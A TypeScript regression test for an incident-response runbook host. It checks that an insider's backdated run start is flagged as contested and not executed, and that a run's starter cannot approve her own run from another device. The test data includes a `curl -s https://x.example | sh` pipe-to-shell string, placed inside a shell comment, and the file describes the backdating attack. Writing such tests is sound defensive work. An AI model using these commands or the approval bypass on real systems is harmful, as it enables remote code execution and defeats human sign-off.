// Issue 20's attack on a real host and its real store (PGlite): Alice starts a
// checklist whose one command needs a second person, Bob approves it, then
// Mallory, an enrolled teammate, writes another start of the same run id with
// an earlier clock and a command of her own (`sh -c "… | sh"`). Before the fix
// her start sorted first and replaced the run's command, and Bob's approval
// covered it. Now the run is contested and the host runs nothing of it; and a
// run Mallory starts herself cannot be approved by her from another device.
// Every device here is enrolled and signs its events, so actor and device are
// as authentic as the real record makes them.
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CallRequest } from '../../common/bridge/contract';
import { foldEvents } from '../../common/domain/incidents';
import type { PayloadOf, WarEvent } from '../../common/events/event';
import { runbookSchema, type CommandSpec } from '../../common/runbooks/runbook-schema';
import { createHost, type Host } from '../../main/host/host';
import { openHostStore } from '../../main/host/host-store';
import { createLogger } from '../../main/services/logger';
import { peer, type Peer } from '../support/seed-run';
import { testHostOptions } from '../support/test-host';

let dir: string;
let host: Host;
let marker: string;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'run-hijack-'));
  marker = join(dir, 'pwned');
  host = await createHost(
    testHostOptions(dir, { openLog: (identity) => openHostStore(dir, createLogger('store'), identity) }),
  );
  // PGlite's first start takes seconds: open it here, not inside a test's time.
  await host.log();
}, 120_000);
afterEach(async () => {
  await host.close();
  await rm(dir, { recursive: true, force: true });
});

const MINUTE = 60_000;

function commandOf(program: string, args: string[]): CommandSpec {
  return { program, args, timeoutSeconds: 300, expectExit: 0 };
}

function runbookWith(command: CommandSpec): PayloadOf<'runbook.run-started'>['runbook'] {
  const runbook = runbookSchema.parse({
    id: 'restart-shop',
    title: 'Restart the shop',
    steps: [{ id: 'restart', kind: 'command', title: 'Restart the shop', approval: true, command }],
  });
  return JSON.parse(JSON.stringify(runbook)) as PayloadOf<'runbook.run-started'>['runbook'];
}

/** The one event of `type` among those a device wrote (its first write opens with its enrolment). */
function written<T extends WarEvent['type']>(events: readonly WarEvent[], type: T): Extract<WarEvent, { type: T }> {
  const found = events.find((event) => event.type === type);
  if (!found) throw new Error(`no ${type} written`);
  return found as Extract<WarEvent, { type: T }>;
}

async function start(from: Peer, actor: string, incidentId: string, command: CommandSpec, at: number) {
  const events = await from.write(
    [
      {
        type: 'runbook.run-started',
        incidentId,
        actor,
        payload: { runId: 'run-1', runbookId: 'restart-shop', version: 1, runbook: runbookWith(command) },
      },
    ],
    at,
  );
  return written(events, 'runbook.run-started');
}

function runStep(incidentId: string, actor: string, command: CommandSpec): CallRequest<'runbook:run-step'> {
  return {
    execId: `exec-${Math.random().toString(36).slice(2)}`,
    incidentId,
    runId: 'run-1',
    stepId: 'restart',
    actor,
    dryRun: false,
    action: { kind: 'command', command },
    after: {},
  };
}

async function record(): Promise<WarEvent[]> {
  return (await host.log()).eventsBeyond({}, 10_000);
}

describe('a run hijacked by a backdated start', { timeout: 60_000 }, () => {
  it('is contested: the host runs neither command, and the timeline shows the refused start', async () => {
    const now = Date.now();
    const alice = peer(host, 'alice-laptop', 'Alice');
    const bob = peer(host, 'bob-laptop', 'Bob');
    const mallory = peer(host, 'mallory-laptop', 'Mallory');
    const restart = commandOf(process.execPath, ['-e', "console.log('restarted')"]);
    const pipeToShell = commandOf('sh', [
      '-c',
      `echo pwned > ${JSON.stringify(marker)} # curl -s https://x.example | sh`,
    ]);

    const declared = await alice.write(
      [
        {
          type: 'incident.declared',
          actor: 'Alice',
          payload: { title: 'Shop down', severity: 'SEV1', kind: 'technical-failure' },
        },
      ],
      now - 10 * MINUTE,
    );
    const incidentId = written(declared, 'incident.declared').id;
    const started = await start(alice, 'Alice', incidentId, restart, now - 8 * MINUTE);
    await alice.write(
      [
        {
          type: 'runbook.step-changed',
          incidentId,
          actor: 'Alice',
          payload: { runId: 'run-1', stepId: 'restart', status: 'awaiting-approval' },
        },
      ],
      now - 7 * MINUTE,
    );
    await bob.write(
      [
        {
          type: 'runbook.step-changed',
          incidentId,
          actor: 'Bob',
          payload: { runId: 'run-1', stepId: 'restart', status: 'approved', runHash: started.hash },
        },
      ],
      now - 6 * MINUTE,
    );

    // Mallory's start claims run-1 with a clock earlier than Alice's, so it sorts first.
    await start(mallory, 'Mallory', incidentId, pipeToShell, now - 9 * MINUTE);

    for (const [actor, command] of [
      ['Mallory', pipeToShell],
      ['Alice', restart],
    ] as const) {
      expect(await host.route('runbook:run-step', runStep(incidentId, actor, command)), actor).toEqual({
        ok: false,
        error: { code: 'refused', message: 'contested' },
      });
    }
    expect(existsSync(marker)).toBe(false);
    // The host wrote nothing: no step ran.
    const events = await record();
    expect(events.filter((event) => event.type === 'runbook.step-changed' && event.payload.evidence)).toEqual([]);

    const incident = foldEvents(events).incidents.get(incidentId)!;
    const starts = incident.timeline.flatMap((entry) =>
      entry.kind === 'runbook' && entry.action === 'started' ? [[entry.actor, entry.flag]] : [],
    );
    expect(starts).toEqual([
      ['Mallory', 'contested'],
      ['Alice', 'duplicate-start'],
    ]);
  });
});

describe('a run its starter approves', { timeout: 60_000 }, () => {
  it('is not approved, from whichever device the approval comes', async () => {
    const now = Date.now();
    const laptop = peer(host, 'mallory-laptop', 'Mallory');
    const phone = peer(host, 'mallory-phone', 'Mallory');
    const pipeToShell = commandOf('sh', ['-c', `echo pwned > ${JSON.stringify(marker)}`]);
    const declared = await laptop.write(
      [
        {
          type: 'incident.declared',
          actor: 'Mallory',
          payload: { title: 'Disk full', severity: 'SEV2', kind: 'technical-failure' },
        },
      ],
      now - 5 * MINUTE,
    );
    const incidentId = written(declared, 'incident.declared').id;
    const started = await start(laptop, 'Mallory', incidentId, pipeToShell, now - 4 * MINUTE);
    await phone.write(
      [
        {
          type: 'runbook.step-changed',
          incidentId,
          actor: 'Mallory',
          payload: { runId: 'run-1', stepId: 'restart', status: 'approved', runHash: started.hash },
        },
      ],
      now - 3 * MINUTE,
    );
    expect(await host.route('runbook:run-step', runStep(incidentId, 'Mallory', pipeToShell))).toEqual({
      ok: false,
      error: { code: 'refused', message: 'not-approved' },
    });
    expect(existsSync(marker)).toBe(false);
    const incident = foldEvents(await record()).incidents.get(incidentId)!;
    expect(incident.timeline.at(-1)).toMatchObject({ kind: 'runbook', flag: 'approval-by-starter' });
  });
});
